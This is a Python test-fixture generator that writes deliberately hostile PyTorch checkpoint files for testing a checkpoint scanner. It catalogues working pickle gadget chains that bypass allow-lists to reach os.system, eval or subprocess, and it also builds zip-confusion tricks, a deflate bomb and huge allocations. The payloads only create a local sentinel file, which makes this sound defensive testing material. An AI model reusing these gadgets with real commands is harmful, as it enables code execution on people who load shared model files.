"""The hostile corpus: crafted checkpoints of every class of issue 11, each tagged with its ground truth.

    python -m tests.support.hostile_corpus [--out fixtures/generated/hostile] [--force]

Every case is one generator function below (``gen_<name>``) registered with :func:`case`; it writes one file (or
folder) into the output directory and returns nothing. The ground truth of every pickle-based case is established by
really running torch: in a forked child (cwd = a fresh temp dir, RLIMIT_AS, a timeout) ``torch.load(f,
weights_only=False)`` is called and we record whether the payload ran (a file named ``HOSTILE_SENTINEL_*`` appeared
in that temp dir, or ``HOSTILE_PAYLOAD_RAN`` was printed), how it ended (ok / error / timeout / signal) and how many
tensors it produced; ``weights_only=True`` is tried too. safetensors cases are judged by the safetensors library.

Payloads only ever create a file ``HOSTILE_SENTINEL_<case>`` in the *current directory* (relative path), so every
reader runs them (if at all) inside a throwaway temp dir; nothing else on the machine is touched. The files are
byte-deterministic (no timestamps, no randomness); ``manifest.json`` holds, per case::

    name, gen (function name), cls ('1'..'6', issue 11's numbering), title, path (relative), form
    ('pickle'|'zip'|'legacy'|'safetensors'|'sharded'|'workdir'|'torchscript'), expect:
      'code'    -- torch.load would run code / the file calls a global outside any allow-list: `inspect` must say
                   DANGER (verdict 'code') -- or refuse with exit 2 when `structural` --, every other command exit 2
      'unsafe'  -- malformed in a way that attacks the reader (BUILD on its records, object dtypes, budgets, zip and
                   safetensors inconsistencies): every command exit 2 (inspect may instead show verdict 'code')
      'bounded' -- shared references, huge-but-lazy objects: any of exit 0/1/2, within time and memory
      'data'    -- a genuine file: `inspect` exit 0, verdict 'data', ``tensors`` tensors (torch's count)
    structural (inspect may refuse instead of showing DANGER), tensors (expected count for 'data'),
    torch: {outcome, payload_ran, tensors, weights_only, error}   (ground truth, None when not applicable)

The module imports only the standard library at top level; torch is imported by :func:`generate`.
"""
from __future__ import annotations

import hashlib
import io
import json
import os
import pickle
import shutil
import struct
import sys
import tempfile
import time
import zipfile
import zlib
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
DEFAULT_OUT = ROOT / "fixtures" / "generated" / "hostile"
SENT = "HOSTILE_SENTINEL_"
MARKER = "HOSTILE_PAYLOAD_RAN"
CASES: dict[str, dict] = {}  # name -> {'fn', 'cls', 'title', 'form', 'expect', ...}


def case(cls: str, form: str, expect: str, title: str, **extra):
    """Register ``gen_<name>`` as a case of issue 11's class ``cls``."""
    def deco(fn):
        name = fn.__name__.removeprefix("gen_")
        ext = {"pickle": ".pkl", "zip": ".pth", "legacy": ".pth", "safetensors": ".safetensors",
               "torchscript": ".pt"}.get(form, "")
        CASES[name] = {"fn": fn, "gen": fn.__name__, "cls": cls, "form": form, "expect": expect, "title": title,
                       "path": name + ext, "structural": False, "tensors": None, **extra}
        return fn
    return deco


# ---- a tiny pickle assembler ----------------------------------------------------------------------------------
def G(module: str, name: str) -> bytes:
    """GLOBAL opcode (protocol 0-3 spelling, remapped by _compat_pickle for protocol < 3)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def SG(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4): `name` may be dotted; the unpickler walks the attribute chain."""
    return U(module) + U(name) + b"\x93"


def U(s: str) -> bytes:
    b = s.encode("utf-8")
    return b"X" + struct.pack("<I", len(b)) + b


def B(b: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(b)) + b


def L(obj) -> bytes:
    """A literal (numbers, str, tuples, lists, dicts of those) as memo-free protocol-2 opcodes."""
    buf = io.BytesIO()
    p = pickle._Pickler(buf, 2)
    p.fast = True  # no memo: fragments can be concatenated freely
    p.dump(obj)
    raw = buf.getvalue()
    return raw[2:-1]


def T(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def CALL(fn: bytes, *args: bytes) -> bytes:
    return fn + T(*args) + b"R"


def GETATTR(obj: bytes, name: str) -> bytes:
    return CALL(G("builtins", "getattr"), obj, L(name))


def DICT(*pairs: tuple[bytes, bytes]) -> bytes:
    return b"}" + (b"(" + b"".join(k + v for k, v in pairs) + b"u" if pairs else b"")


def pk(body: bytes, proto: int = 2) -> bytes:
    return b"\x80" + bytes([proto]) + body + b"."


def sh(name: str) -> str:
    return f"touch {SENT}{name}"


def pyopen(name: str) -> str:
    return f"open('{SENT}{name}', 'w').close()"


def os_system(name: str) -> bytes:
    return CALL(G("os", "system"), L(sh(name)))


def storage_pid(key: str, numel: int, storage: str = "FloatStorage") -> bytes:
    return T(L("storage"), G("torch", storage), L(key), L("cpu"), L(numel)) + b"Q"


def tensor(key: str, numel: int, shape, stride, offset: int = 0, storage: str = "FloatStorage") -> bytes:
    return CALL(G("torch._utils", "_rebuild_tensor_v2"), storage_pid(key, numel, storage), L(offset),
                L(tuple(shape)), L(tuple(stride)), L(False), CALL(G("collections", "OrderedDict")))


def state_dict_pkl(entries: list[tuple[str, bytes]], extra: list[tuple[bytes, bytes]] = ()) -> bytes:
    """{'state_dict': OrderedDict(entries), **extra} as a data.pkl body (no PROTO/STOP)."""
    sd = CALL(G("collections", "OrderedDict")) + (b"(" + b"".join(L(k) + v for k, v in entries) + b"u"
                                                   if entries else b"")
    return DICT((L("state_dict"), sd), *extra)


def floats(*values: float) -> bytes:
    return struct.pack(f"<{len(values)}f", *values)


# ---- containers ---------------------------------------------------------------------------------------------
ZIP_DATE = (2026, 1, 1, 0, 0, 0)


def write_zip(path: Path, entries: list[tuple[str, bytes]], deflate: set[str] = frozenset()) -> None:
    """A zip with exactly these entries in this order (duplicates allowed), stored unless named in `deflate`."""
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "Duplicate name" is the point of some cases
        with zipfile.ZipFile(path, "w") as zf:
            for name, data in entries:
                info = zipfile.ZipInfo(name, ZIP_DATE)
                info.compress_type = zipfile.ZIP_DEFLATED if name in deflate else zipfile.ZIP_STORED
                info.external_attr = 0o644 << 16
                zf.writestr(info, data)


def torch_zip(path: Path, data_pkl: bytes, storages: dict[str, bytes] = None, prefix: str = "archive",
              deflate: set[str] = frozenset(), extra: list[tuple[str, bytes]] = ()) -> None:
    entries = [(f"{prefix}/data.pkl", data_pkl), (f"{prefix}/byteorder", b"little")]
    entries += [(f"{prefix}/data/{k}", v) for k, v in (storages or {}).items()]
    entries += [(f"{prefix}/version", b"3\n"), *extra]
    write_zip(path, entries, {f"{prefix}/{d}" for d in deflate})


def legacy_file(obj_pickle: bytes, storages: list[tuple[str, bytes, int]] = (), magic_pickle: bytes | None = None,
                proto_pickle: bytes | None = None, sysinfo_pickle: bytes | None = None,
                keys_pickle: bytes | None = None) -> bytes:
    """The legacy torch stream: magic, protocol, sys_info, object, storage keys, then (numel, bytes) per storage."""
    magic = magic_pickle or pk(L(0x1950A86A20F9469CFC6C))
    proto = proto_pickle or pk(L(1001))
    sysinfo = sysinfo_pickle or pk(L({"protocol_version": 1001, "little_endian": True,
                                      "type_sizes": {"short": 2, "int": 4, "long": 4}}))
    keys = keys_pickle or pk(L([k for k, _, _ in storages]))
    out = magic + proto + sysinfo + obj_pickle + keys
    for _, data, numel in storages:
        out += struct.pack("<q", numel) + data
    return out


def legacy_pid(key: str, numel: int, storage: str = "FloatStorage") -> bytes:
    return T(L("storage"), G("torch", storage), L(key), L("cpu"), L(numel), b"N") + b"Q"


def legacy_tensor(key: str, numel: int, shape, stride) -> bytes:
    return CALL(G("torch._utils", "_rebuild_tensor_v2"), legacy_pid(key, numel), L(0), L(tuple(shape)),
                L(tuple(stride)), L(False), CALL(G("collections", "OrderedDict")))


def nested_legacy_payload(name: str) -> bytes:
    """A legacy torch file whose object pickle runs os.system: what torch.storage._load_from_bytes torch.loads."""
    return legacy_file(pk(os_system(name)))


def deflate_bomb(total: int, chunk: int = 1 << 20) -> bytes:
    """A raw-deflate stream of `total` zero bytes built in O(chunk) time (full flushes make every block equal)."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(b"\0" * chunk) + c.flush(zlib.Z_FULL_FLUSH)
    c2 = zlib.compressobj(9, zlib.DEFLATED, -15)
    c2.compress(b"\0" * chunk)
    c2.flush(zlib.Z_FULL_FLUSH)
    rest = c2.compress(b"\0" * chunk) + c2.flush(zlib.Z_FULL_FLUSH)  # a block after a full flush
    tail = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)
    assert total % chunk == 0
    return block + rest * (total // chunk - 1) + tail


def zip_with_raw_deflate(path: Path, entries: list[tuple[str, bytes | tuple[bytes, int, int]]]) -> None:
    """Like write_zip but an entry may be (raw deflate stream, uncompressed size, crc32): bombs without inflating."""
    out = io.BytesIO()
    central = []
    for name, data in entries:
        nb = name.encode()
        if isinstance(data, tuple):
            comp, size, crc = data
            method = 8
        else:
            comp, size, crc, method = data, len(data), zlib.crc32(data), 0
        off = out.tell()
        out.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0x5421, crc, len(comp), size,
                              len(nb), 0) + nb + comp)
        central.append(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, method, 0, 0x5421, crc,
                                   len(comp), size, len(nb), 0, 0, 0, 0, 0o644 << 16, off) + nb)
    cd_off = out.tell()
    cd = b"".join(central)
    out.write(cd + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(central), len(central), len(cd), cd_off, 0))
    path.write_bytes(out.getvalue())


def crc_of_zeros(n: int, chunk: int = 1 << 20) -> int:
    crc, z = 0, b"\0" * chunk
    for _ in range(n // chunk):
        crc = zlib.crc32(z, crc)
    return crc


# The genuine template every command compares against / grafts into: 3 float tensors.
TEMPLATE_KEYS = [("backbone.weight", (2, 3)), ("backbone.bias", (3,)), ("head.weight", (4,))]


def template_entries() -> tuple[list[tuple[str, bytes]], dict[str, bytes]]:
    entries, storages = [], {}
    for i, (k, shape) in enumerate(TEMPLATE_KEYS):
        n = 1
        for s in shape:
            n *= s
        stride = tuple(int(x) for x in _contig(shape))
        entries.append((k, tensor(str(i), n, shape, stride)))
        storages[str(i)] = floats(*[0.5 * j + i for j in range(n)])
    return entries, storages


def _contig(shape):
    out, acc = [], 1
    for s in reversed(shape):
        out.append(acc)
        acc *= s
    return tuple(reversed(out))


def zip_with_payload_in_sd(path: Path, payload: bytes, proto: int = 2) -> None:
    """The template's tensors plus one extra entry whose value is `payload` (so every command must read it)."""
    entries, storages = template_entries()
    torch_zip(path, pk(state_dict_pkl(entries, [(L("meta"), payload)]), proto), storages)


# ===============================================================================================================
# 1. Verdict bypasses: torch.load runs code; ckpt must say DANGER and every other command refuse
# ===============================================================================================================
@case("1", "pickle", "code", "pydoc.pipepager runs a shell command")
def gen_gadget_pydoc_pipepager(p, name):
    p.write_bytes(pk(CALL(G("pydoc", "pipepager"), L(""), L(sh(name)))))


@case("1", "pickle", "code", "pydoc.tempfilepager runs os.system(cmd + file)")
def gen_gadget_pydoc_tempfilepager(p, name):
    p.write_bytes(pk(CALL(G("pydoc", "tempfilepager"), L(""), L(sh(name) + " ;:"))))


@case("1", "pickle", "code", "logging.config._resolve('os.system') then called")
def gen_gadget_logging_resolve(p, name):
    p.write_bytes(pk(CALL(CALL(G("logging.config", "_resolve"), L("os.system")), L(sh(name)))))


@case("1", "pickle", "code", "logging.config.dictConfig with a '()' handler factory")
def gen_gadget_logging_dictconfig(p, name):
    cfg = {"version": 1, "handlers": {"h": {"()": "subprocess.getoutput", "cmd": sh(name)}}}
    p.write_bytes(pk(CALL(G("logging.config", "dictConfig"), L(cfg))))


@case("1", "pickle", "code", "logging.config.valid_ident: a harmless call of an unlisted function is still a call")
def gen_gadget_logging_valid_ident(p, name):
    p.write_bytes(pk(CALL(G("logging.config", "valid_ident"), L("x"))))


@case("1", "pickle", "code", "logging.config.listen builds a socket-config thread (unlisted call)")
def gen_gadget_logging_listen(p, name):
    p.write_bytes(pk(CALL(G("logging.config", "listen"), L(0))))


@case("1", "pickle", "code", "typing._eval_type(ForwardRef(src)) evaluates a string")
def gen_gadget_typing_eval_type(p, name):
    src = f"__import__('os').system('{sh(name)}')"
    p.write_bytes(pk(CALL(G("typing", "_eval_type"), CALL(G("typing", "ForwardRef"), L(src)), b"N", b"N")))


@case("1", "pickle", "code", "getattr(typing.ForwardRef(src), '_evaluate')(...)")
def gen_gadget_typing_forwardref_evaluate(p, name):
    src = f"__import__('os').system('{sh(name)}')"
    ev = GETATTR(CALL(G("typing", "ForwardRef"), L(src)), "_evaluate")
    p.write_bytes(pk(CALL(ev, b"}", b"}", CALL(G("builtins", "frozenset")))))


@case("1", "pickle", "code", "uuid._get_command_stdout runs an executable")
def gen_gadget_uuid_command_stdout(p, name):
    p.write_bytes(pk(CALL(G("uuid", "_get_command_stdout"), L("touch"), L(SENT + name))))


@case("1", "pickle", "code", "imaplib.IMAP4_stream spawns a shell command")
def gen_gadget_imaplib_stream(p, name):
    p.write_bytes(pk(CALL(G("imaplib", "IMAP4_stream"), L(sh(name)))))


@case("1", "pickle", "code", "timeit.timeit(stmt) executes Python source")
def gen_gadget_timeit(p, name):
    p.write_bytes(pk(CALL(G("timeit", "timeit"), L(pyopen(name) + "; raise ValueError('stop')"))))


@case("1", "pickle", "code", "cProfile.run(src) executes Python source")
def gen_gadget_cprofile_run(p, name):
    p.write_bytes(pk(CALL(G("cProfile", "run"), L(pyopen(name)))))


@case("1", "pickle", "code", "code.InteractiveInterpreter().runsource(src)")
def gen_gadget_code_interpreter(p, name):
    interp = CALL(G("code", "InteractiveInterpreter"))
    p.write_bytes(pk(CALL(GETATTR(interp, "runsource"), L(pyopen(name)))))


@case("1", "pickle", "code", "copyreg._reconstructor(Popen, Popen, argv) calls Popen.__init__")
def gen_gadget_copyreg_reconstructor_popen(p, name):
    pop = G("subprocess", "Popen")
    p.write_bytes(pk(CALL(G("copyreg", "_reconstructor"), pop, pop, L(["touch", SENT + name]))))


@case("1", "pickle", "code", "copy_reg._reconstructor (protocol-2 spelling) with Popen")
def gen_gadget_compat_copy_reg_popen(p, name):
    pop = G("subprocess", "Popen")
    p.write_bytes(pk(CALL(G("copy_reg", "_reconstructor"), pop, pop, L(["touch", SENT + name]))))


@case("1", "pickle", "code", "NEWOBJ numpy.memmap: an 'only instantiated' class whose __new__ creates a file")
def gen_gadget_newobj_numpy_memmap(p, name):
    args = T(L(SENT + name), L("uint8"), L("w+"), L(0), L((1,)))
    p.write_bytes(pk(G("numpy", "memmap") + args + b"\x81"))


@case("1", "pickle", "code", "copyreg.__newobj__(numpy.memmap, ...) creates a file")
def gen_gadget_copyreg_newobj_memmap(p, name):
    p.write_bytes(pk(CALL(G("copyreg", "__newobj__"), G("numpy", "memmap"), L(SENT + name), L("uint8"), L("w+"),
                          L(0), L((1,)))))


@case("1", "pickle", "code", "operator.methodcaller('system', cmd)(os via torch.serialization.os)")
def gen_gadget_operator_methodcaller(p, name):
    mc = CALL(G("operator", "methodcaller"), L("system"), L(sh(name)))
    p.write_bytes(pk(CALL(mc, G("torch.serialization", "os"))))


@case("1", "pickle", "code", "getattr(torch.serialization.os, 'system'): a module under a torch name")
def gen_gadget_getattr_torch_serialization_os(p, name):
    p.write_bytes(pk(CALL(GETATTR(G("torch.serialization", "os"), "system"), L(sh(name)))))


@case("1", "pickle", "code", "getattr(pathlib.os, 'system'): os re-exported by an allowed module")
def gen_gadget_getattr_pathlib_os(p, name):
    p.write_bytes(pk(CALL(GETATTR(G("pathlib", "os"), "system"), L(sh(name)))))


@case("1", "pickle", "code", "getattr(argparse._os, 'system')")
def gen_gadget_getattr_argparse_os(p, name):
    p.write_bytes(pk(CALL(GETATTR(G("argparse", "_os"), "system"), L(sh(name)))))


@case("1", "pickle", "code", "collections._sys.modules.get('os').system: a chain of public-looking getattrs")
def gen_gadget_getattr_collections_sys_chain(p, name):
    mods = GETATTR(G("collections", "_sys"), "modules")
    os_mod = CALL(GETATTR(mods, "get"), L("os"))
    p.write_bytes(pk(CALL(GETATTR(os_mod, "system"), L(sh(name)))))


@case("1", "pickle", "code", "getattr(mmengine.config.Config, 'fromstring')(py source): a known-prefix class method that execs")
def gen_gadget_mmengine_config_fromstring(p, name):
    src = f"x = {pyopen(name)}\n"  # mmengine turns `import` lines into lazy objects; plain calls run
    p.write_bytes(pk(CALL(GETATTR(G("mmengine.config", "Config"), "fromstring"), L(src), L(".py"))))


@case("1", "pickle", "code", "getattr(pathlib.PosixPath, 'touch')(PosixPath(s)): public method whose result is called")
def gen_gadget_getattr_path_touch(p, name):
    path = CALL(G("pathlib", "PosixPath"), L(SENT + name))
    p.write_bytes(pk(CALL(GETATTR(G("pathlib", "PosixPath"), "touch"), path)))


@case("1", "pickle", "code", "getattr(pathlib.Path, 'write_text')(Path(s), 'x')")
def gen_gadget_getattr_path_write_text(p, name):
    path = CALL(G("pathlib", "Path"), L(SENT + name))
    p.write_bytes(pk(CALL(GETATTR(G("pathlib", "Path"), "write_text"), path, L("x"))))


@case("1", "pickle", "code", "Namespace.__init__.__globals__['__builtins__']['__import__']('os').system")
def gen_gadget_getattr_globals_import_chain(p, name):
    init = GETATTR(G("argparse", "Namespace"), "__init__")
    glb = GETATTR(init, "__globals__")
    bi = CALL(GETATTR(glb, "get"), L("__builtins__"))
    imp = CALL(GETATTR(bi, "get"), L("__import__"))
    os_mod = CALL(imp, L("os"))
    p.write_bytes(pk(CALL(GETATTR(os_mod, "system"), L(sh(name)))))


@case("1", "pickle", "code", "__reduce_ex__ of an allowed object hands out copyreg.__newobj__ → importlib")
def gen_gadget_reduce_ex_importlib(p, name):
    # getattr(Namespace(), '__reduce_ex__')(2)[0] is copyreg.__newobj__, whose module globals lead to importlib
    imp = GETATTR(CALL(GETATTR(CALL(G("argparse", "Namespace")), "__reduce_ex__"), L(2)), "__getitem__")
    newobj = CALL(imp, L(0))  # copyreg.__newobj__
    glb = GETATTR(newobj, "__globals__")  # copyreg's module globals
    bi = CALL(GETATTR(glb, "get"), L("__builtins__"))
    imp_mod = CALL(CALL(GETATTR(bi, "get"), L("__import__")), L("importlib"))
    os_mod = CALL(GETATTR(imp_mod, "import_module"), L("os"))
    p.write_bytes(pk(CALL(GETATTR(os_mod, "system"), L(sh(name)))))


@case("1", "pickle", "code", "STACK_GLOBAL pathlib / 'os.system' (a dotted name)")
def gen_gadget_stack_global_pathlib_os_system(p, name):
    p.write_bytes(pk(SG("pathlib", "os.system") + L((sh(name),)) + b"R", 4))


@case("1", "pickle", "code", "STACK_GLOBAL argparse / '_os.system'")
def gen_gadget_stack_global_argparse_os_system(p, name):
    p.write_bytes(pk(SG("argparse", "_os.system") + L((sh(name),)) + b"R", 4))


@case("1", "pickle", "code", "STACK_GLOBAL collections / 'OrderedDict.fromkeys.__self__...' → torch.serialization.os")
def gen_gadget_stack_global_torch_dotted(p, name):
    p.write_bytes(pk(SG("torch.serialization", "os.system") + L((sh(name),)) + b"R", 4))


@case("1", "pickle", "code", "protocol 2: cStringIO.open is remapped by _compat_pickle to io.open (creates a file)")
def gen_gadget_compat_cstringio_open(p, name):
    p.write_bytes(pk(CALL(G("cStringIO", "open"), L(SENT + name), L("w"))))


@case("1", "pickle", "code", "protocol 2: StringIO.open → io.open")
def gen_gadget_compat_stringio_open(p, name):
    p.write_bytes(pk(CALL(G("StringIO", "open"), L(SENT + name), L("w"))))


@case("1", "pickle", "code", "protocol 2: __builtin__.eval")
def gen_gadget_compat_builtin_eval(p, name):
    p.write_bytes(pk(CALL(G("__builtin__", "eval"), L(pyopen(name)))))


@case("1", "pickle", "code", "protocol 2: commands.getoutput → subprocess.getoutput")
def gen_gadget_compat_commands_getoutput(p, name):
    p.write_bytes(pk(CALL(G("commands", "getoutput"), L(sh(name)))))


@case("1", "pickle", "code", "protocol 2: cPickle.loads(inner pickle) → pickle.loads")
def gen_gadget_compat_cpickle_loads(p, name):
    p.write_bytes(pk(CALL(G("cPickle", "loads"), B(pk(os_system(name))))))


@case("1", "pickle", "code", "protocol 0 (no PROTO opcode): cStringIO.open still remapped")
def gen_gadget_compat_proto0_cstringio(p, name):
    p.write_bytes(CALL(G("cStringIO", "open"), L(SENT + name), L("w")) + b".")


@case("1", "pickle", "code", "protocol 3: cStringIO.open is NOT remapped (torch fails to import it) — still a call")
def gen_gadget_compat_proto3_no_remap(p, name):
    p.write_bytes(pk(CALL(G("cStringIO", "open"), L(SENT + name), L("w")), 3))


@case("1", "pickle", "code", "the project's own ckpttool.surgery.soup.run_eval runs a shell command")
def gen_gadget_ckpttool_run_eval(p, name):
    p.write_bytes(pk(CALL(G("ckpttool.surgery.soup", "run_eval"), L(sh(name)), L("x"), L("m"))))


@case("1", "zip", "code", "baseline: os.system in a torch zip next to real tensors")
def gen_zip_os_system_in_meta(p, name):
    zip_with_payload_in_sd(p, os_system(name))


@case("1", "zip", "code", "pydoc.pipepager inside a torch zip's meta (must be refused by every command)")
def gen_zip_pipepager_in_meta(p, name):
    zip_with_payload_in_sd(p, CALL(G("pydoc", "pipepager"), L(""), L(sh(name))))


@case("1", "zip", "code", "cStringIO.open (compat remap) inside a torch zip's meta")
def gen_zip_compat_open_in_meta(p, name):
    zip_with_payload_in_sd(p, CALL(G("cStringIO", "open"), L(SENT + name), L("w")))


@case("1", "pickle", "code", "torch.storage._load_from_bytes(legacy file whose object pickle calls os.system)")
def gen_nested_load_from_bytes_legacy(p, name):
    p.write_bytes(pk(CALL(G("torch.storage", "_load_from_bytes"), B(nested_legacy_payload(name)))))


@case("1", "pickle", "code", "torch.storage._load_from_bytes(legacy file with the payload in its sys_info header)",
      structural=True)
def gen_nested_load_from_bytes_header(p, name):
    inner = legacy_file(pk(L({})), sysinfo_pickle=pk(os_system(name) + b"0" + L({"little_endian": True})))
    p.write_bytes(pk(CALL(G("torch.storage", "_load_from_bytes"), B(inner))))


@case("1", "pickle", "code", "torch.storage._load_from_bytes(a torch zip whose data.pkl calls os.system)")
def gen_nested_load_from_bytes_zip(p, name):
    tmp = p.with_suffix(".tmpzip")
    torch_zip(tmp, pk(os_system(name)))
    inner = tmp.read_bytes()
    tmp.unlink()
    p.write_bytes(pk(CALL(G("torch.storage", "_load_from_bytes"), B(inner))))


@case("1", "pickle", "code", "two levels: _load_from_bytes(legacy(_load_from_bytes(legacy(os.system))))")
def gen_nested_load_from_bytes_twice(p, name):
    inner = legacy_file(pk(CALL(G("torch.storage", "_load_from_bytes"), B(nested_legacy_payload(name)))))
    p.write_bytes(pk(CALL(G("torch.storage", "_load_from_bytes"), B(inner))))


@case("1", "zip", "code", "a real-looking zip whose one tensor is rebuilt from a nested legacy file with a payload")
def gen_nested_load_from_bytes_in_zip(p, name):
    zip_with_payload_in_sd(p, CALL(G("torch.storage", "_load_from_bytes"), B(nested_legacy_payload(name))))


@case("1", "pickle", "code", "legacy stream whose magic-number pickle runs os.system first", structural=True)
def gen_legacy_header_magic_payload(p, name):
    p.write_bytes(legacy_file(pk(L({})), magic_pickle=pk(os_system(name) + b"0" + L(0x1950A86A20F9469CFC6C))))


@case("1", "legacy", "code", "legacy stream whose sys_info pickle runs os.system", structural=True)
def gen_legacy_header_sysinfo_payload(p, name):
    p.write_bytes(legacy_file(pk(L({})), sysinfo_pickle=pk(os_system(name) + b"0" + L({"little_endian": True}))))


@case("1", "legacy", "code", "legacy stream whose storage-keys pickle runs os.system", structural=True)
def gen_legacy_keys_payload(p, name):
    p.write_bytes(legacy_file(pk(L({})), keys_pickle=pk(os_system(name) + b"0" + L([]))))


@case("1", "legacy", "code", "baseline: legacy stream whose object pickle calls os.system")
def gen_legacy_object_payload(p, name):
    p.write_bytes(legacy_file(pk(DICT((L("state_dict"), b"}"), (L("meta"), os_system(name))))))


@case("1", "torchscript", "code", "a TorchScript archive (torch.load hands it to torch.jit.load: __setstate__ runs)")
def gen_torchscript_setstate(p, name):
    import torch

    torch.jit.save(torch.jit.script(_scripted_module()), str(p))
    _normalise_zip(p)


@case("1", "zip", "code", "a plain torch zip with a constants.pkl added: torch takes it for TorchScript",
      structural=True)
def gen_torchscript_constants_in_plain_zip(p, name):
    entries, storages = template_entries()
    torch_zip(p, pk(state_dict_pkl(entries)), storages, extra=[("archive/constants.pkl", pk(L(())))])


@case("1", "zip", "code", "duplicate archive/data.pkl: torch reads the first (payload), zipfile the last",
      structural=True)
def gen_zip_duplicate_datapkl_first_payload(p, name):
    entries, storages = template_entries()
    write_zip(p, [("archive/data.pkl", pk(os_system(name))), ("archive/byteorder", b"little"),
                  *[(f"archive/data/{k}", v) for k, v in storages.items()], ("archive/version", b"3\n"),
                  ("archive/data.pkl", pk(state_dict_pkl(entries)))])


@case("1", "zip", "code", "duplicate archive/data.pkl: payload in the last copy", structural=True)
def gen_zip_duplicate_datapkl_last_payload(p, name):
    entries, storages = template_entries()
    write_zip(p, [("archive/data.pkl", pk(state_dict_pkl(entries))), ("archive/byteorder", b"little"),
                  *[(f"archive/data/{k}", v) for k, v in storages.items()], ("archive/version", b"3\n"),
                  ("archive/data.pkl", pk(os_system(name)))])


@case("1", "zip", "unsafe", "two archive folders (torch refuses; a reader must not pick one and read it)")
def gen_zip_prefix_confusion(p, name):
    entries, storages = template_entries()
    write_zip(p, [("evil/version", b"3\n"), ("good/data.pkl", pk(state_dict_pkl(entries))),
                  ("good/byteorder", b"little"), *[(f"good/data/{k}", v) for k, v in storages.items()],
                  ("good/version", b"3\n"), ("evil/data.pkl", pk(os_system(name))), ("evil/byteorder", b"little")])


@case("1", "zip", "code", "central directory and local header disagree on data.pkl's name", structural=True)
def gen_zip_local_central_name_mismatch(p, name):
    torch_zip(p, pk(os_system(name)))
    raw = bytearray(p.read_bytes())
    i = raw.index(b"PK\x03\x04")  # first local header: archive/data.pkl
    j = raw.index(b"archive/data.pkl", i)
    raw[j: j + 16] = b"archive/data.pkX"
    p.write_bytes(bytes(raw))


@case("1", "pickle", "code", "NEWOBJ functools.partial(os.system, cmd), then the instance is called (REDUCE)")
def gen_gadget_newobj_partial_called(p, name):
    part = G("functools", "partial") + T(G("os", "system"), L(sh(name))) + b"\x81"
    p.write_bytes(pk(part + b")R"))


@case("1", "pickle", "code", "collections.defaultdict(posix.system): an allowed class with a factory off the list")
def gen_gadget_defaultdict_factory_system(p, name):
    p.write_bytes(pk(DICT((L("d"), CALL(G("collections", "defaultdict"), G("posix", "system"))))))


@case("1", "pickle", "code", "getattr(OneCycleParamScheduler, '_annealing_cos') — an allowed attribute — then called")
def gen_gadget_allowed_attribute_called(p, name):
    cls = G("mmengine.optim.scheduler.param_scheduler", "OneCycleParamScheduler")
    p.write_bytes(pk(CALL(GETATTR(cls, "_annealing_cos"), L(0.1), L(0.2), L(0.5))))


@case("1", "pickle", "code", "STACK_GLOBAL 'Namespace.__init__.__globals__' (a chain through an allowed class) → _os")
def gen_gadget_stack_global_allowed_chain(p, name):
    glb = SG("argparse", "Namespace.__init__.__globals__")
    os_mod = CALL(GETATTR(glb, "get"), L("_os"))
    p.write_bytes(pk(CALL(GETATTR(os_mod, "system"), L(sh(name))), 4))


@case("1", "pickle", "bounded", "40 levels of _load_from_bytes(legacy(_load_from_bytes(...))) around {} (no payload)")
def gen_nested_load_from_bytes_deep(p, name):
    inner = legacy_file(pk(L({})))
    for _ in range(40):
        inner = legacy_file(pk(CALL(G("torch.storage", "_load_from_bytes"), B(inner))))
    p.write_bytes(pk(CALL(G("torch.storage", "_load_from_bytes"), B(inner))))


@case("1", "pickle", "code", "NEWOBJ_EX numpy.memmap (the protocol-4 spelling of instantiate, kwargs)")
def gen_gadget_newobj_ex_numpy_memmap(p, name):
    args = T(L(SENT + name), L("uint8"), L("w+"), L(0), L((1,)))
    p.write_bytes(pk(G("numpy", "memmap") + args + b"}" + b"\x92", 4))


@case("1", "pickle", "unsafe", "NEWOBJ mmap.mmap(-1, 2**40): a stdlib class whose __new__ maps 1 TiB")
def gen_gadget_newobj_mmap_huge(p, name):
    p.write_bytes(pk(G("mmap", "mmap") + T(L(-1), L(1 << 40)) + b"\x81"))


@case("1", "pickle", "unsafe", "NEWOBJ torch.storage.UntypedStorage(2**36): a torch class whose __new__ allocates")
def gen_gadget_newobj_untyped_storage_huge(p, name):
    p.write_bytes(pk(G("torch.storage", "UntypedStorage") + T(L(1 << 36)) + b"\x81"))


@case("1", "pickle", "code", "INST opcode (protocol 0 'i'): os.system called by INST, no REDUCE anywhere")
def gen_gadget_inst_os_system(p, name):
    p.write_bytes(b"(" + L(sh(name)) + b"ios\nsystem\n.")


@case("1", "pickle", "code", "OBJ opcode ('o'): MARK, os.system, args, OBJ")
def gen_gadget_obj_os_system(p, name):
    p.write_bytes(pk(b"(" + G("os", "system") + L(sh(name)) + b"o"))


# Every class-1 pickle gadget again, as the meta of a real torch zip next to real tensors: a command that refuses a
# bare gadget pickle only because it "holds no tensors" would accept these.
_NOT_WRAPPED = {"gadget_compat_proto0_cstringio", "gadget_compat_proto3_no_remap", "legacy_header_magic_payload",
                "gadget_inst_os_system"}


def _wrapped(inner_fn):
    def gen(p, name):
        tmp = p.with_suffix(".inner")
        inner_fn(tmp, name)
        raw = tmp.read_bytes()
        tmp.unlink()
        assert raw[:1] == b"\x80" and raw[-1:] == b"."
        zip_with_payload_in_sd(p, raw[2:-1], proto=raw[1])  # protocol 4 keeps dotted names, 2 the remaps
    return gen


for _name, _info in list(CASES.items()):
    if _info["cls"] == "1" and _info["form"] == "pickle" and _info["expect"] == "code" and _name not in _NOT_WRAPPED:
        _gen = _wrapped(_info["fn"])
        _gen.__name__ = f"gen_{_name}_in_zip"
        case("1", "zip", "code", _info["title"] + " — inside a real checkpoint's meta",
             structural=_info["structural"])(_gen)


# ===============================================================================================================
# 2. Memory safety: the reader's own records, numpy object dtypes, deep nesting
# ===============================================================================================================
def _zip_one_tensor_then(p: Path, after: bytes, n: int = 4) -> None:
